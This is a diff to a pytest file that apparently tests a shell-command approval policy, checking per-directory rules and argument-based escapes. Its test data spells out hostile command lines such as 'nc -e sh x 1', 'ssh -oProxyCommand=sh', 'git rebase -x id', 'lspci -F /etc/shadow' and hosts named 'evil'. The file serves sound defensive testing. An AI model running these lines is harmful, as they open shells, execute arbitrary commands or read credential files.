@@ -49,7 +49,7 @@ def test_a_rule_that_ends_before_the_wrapped_command_allows_none(rule: str, line
         ("sed -n", "sed -n 1e f"),
         ("mysql -e", "mysql -e system"),
         ("sqlite3 -readonly", "sqlite3 -readonly f .shell"),
-        ("git --no-pager", "git --no-pager push"),
+        ("tmux -V", "tmux -V new id"),
     ],
 )
 def test_a_rule_of_options_alone_does_not_cover_the_program_in_the_operands(
@@ -89,3 +89,77 @@ def test_showing_addresses_stays_allowed() -> None:
     assert _decision("ip addr show", "ip", "addr", "show", "eth0") == "allow"
     assert _decision("dig", "dig", "-x", "10.0.0.1") == "allow"
     assert _decision("ping", "ping", "-c", "1", "x") == "allow"
+
+
+@pytest.mark.parametrize(
+    ("rule", "line"),
+    [
+        *(("git status", "git status"), ("git log", "git log -1"), ("make -n", "make -n all")),
+        *(("npm test", "npm test"), ("pytest -q", "pytest -q"), ("cargo build", "cargo build")),
+        *(("sudo make install", "sudo make install"), ("go list", "go list ./...")),
+        *(("python3 -m pytest", "python3 -m pytest"), ("bash build.sh", "bash build.sh")),
+        *(("python3 -c 'print(1)'", "python3 -c print(1)"), ("node x.js", "node x.js")),
+    ],
+)
+def test_what_a_directory_s_files_say_is_run_only_where_the_rule_names_the_directory(
+    rule: str, line: str
+) -> None:
+    argv = ("python3", "-c", "print(1)") if "print" in line else tuple(line.split())
+    assert _decision(rule, *argv) == "ask"
+    here = profile_of(auto_approve=[{"command": rule, "cwd": "/srv/example"}], confine=[])
+    assert decide(Command(argv, "/srv/example"), here).decision == "allow"
+    assert decide(Command(argv, "/srv/other"), here).decision == "ask"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        *("git status -C /x", "git status --git-dir=/x", "git log -p --textconv", "git log ../x"),
+        *("git diff --no-index a b", "git bisect run sh", "git submodule foreach id"),
+        *("git rebase -x id", "git difftool --extcmd=id", "git status --git-di=x"),
+        *("make all -f /x", "make all SHELL=/x", "make all --eval=x", "make all -Cx"),
+        *("pytest -q /x", "pytest -q ../x", "pytest -q -p x", "pytest -q --rootd=/x"),
+        *("npm test --prefix /x", "npm test --script-shell=x", "cargo build --config x"),
+        *("cargo build --manifest-path=/x", "python3 -m pytest -q -c x"),
+    ],
+)  # fmt: skip
+def test_a_rule_for_one_directory_does_not_lead_out_of_it(line: str) -> None:
+    rules = ["git status", "git log", "git diff", "git bisect", "git submodule", "git rebase"]
+    rules += ["git difftool", "make all", "pytest -q", "npm test", "cargo build"]
+    profile = profile_of(
+        auto_approve=[{"command": rule, "cwd": "/srv/example"} for rule in rules], confine=[]
+    )
+    assert decide(Command(tuple(line.split()), "/srv/example"), profile).decision == "ask"
+
+
+def test_an_interpreter_of_a_named_file_may_be_allowed_and_by_its_name_alone_may_not() -> None:
+    assert _decision("python3 /opt/check.py", "python3", "/opt/check.py", "-v") == "allow"
+    assert _decision("python3 --version", "python3", "--version") == "allow"
+    for argv in (("python3", "x.py"), ("perl", "x.pl"), ("node", "/opt/x.js")):
+        assert _decision(argv[0], *argv) == "ask"
+    assert _decision("python3 -m /x", "python3", "-m", "/x") == "ask"
+
+
+@pytest.mark.parametrize(
+    ("rule", "line"),
+    [
+        *(("tar -tf", "tar -tf evil:/x"), ("rsync -n", "rsync -n a evil:/x")),
+        *(("ssh web1", "ssh web1 -oProxyCommand=sh"), ("scp a", "scp a b -S sh")),
+        *(("hostnamectl status", "hostnamectl status -H evil"), ("ps", "ps -auxe")),
+        *(("loginctl", "loginctl --host=evil"), ("systemctl status", "systemctl status -H evil")),
+        *(("lspci", "lspci -q"), ("lspci", "lspci -F /etc/shadow"), ("dmesg", "dmesg -K /x")),
+        *(("ps", "ps axeopid,cmd"), ("ps", "ps -ef -ux"), ("ps", "ps -C x -e -ux")),
+        *(("sysctl", "sysctl kernel/../../../etc/hostname"), ("last", "last -d")),
+        *(("sensors", "sensors -s"), ("gpg", "gpg --output=x y"), ("nc", "nc -e sh x 1")),
+    ],
+)
+def test_a_word_that_reaches_further_must_stand_in_the_rule(rule: str, line: str) -> None:
+    assert _decision(rule, *line.split()) == "ask"
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["ps", "ps aux", "ps -ef", "ps -eo pid,args", "ps auxww", "ps -p 1 -o comm", "ps -ef --f"],
+)
+def test_a_list_of_processes_without_their_environment_is_allowed(line: str) -> None:
+    assert _decision("ps", *line.split()) == "allow"
